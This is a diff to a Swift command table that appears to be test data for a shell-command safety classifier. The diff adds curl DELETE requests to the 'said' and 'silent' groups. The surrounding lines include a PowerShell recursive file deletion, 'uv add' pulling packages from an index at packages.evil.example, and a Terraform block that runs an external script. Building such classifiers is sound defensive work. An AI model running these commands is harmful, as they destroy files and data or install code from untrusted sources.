@@ -39,10 +39,15 @@ extension CommandTable {
       pwsh -c 'dir -Recurse -File | foreach { $_.Delete() }'
       """#,
     said: #"""
+      curl -X DELETE https://api.acme.io/v1/posts
+      curl -X DELETE https://api.acme.io/users
       uv add --index https://packages.evil.example/simple foo
       uv add --index other=https://packages.evil.example/simple foo
       """#,
     silent: #"""
+      curl -X DELETE http://localhost:3000/v1/posts
+      curl -X DELETE https://api.acme.io/v1/drafts
+      curl -X DELETE https://api.acme.io/cart/items
       cat > m.tf <<'EOF'
         data "external" "x" { program = ["python3", "${path.module}/x.py"] }
         EOF
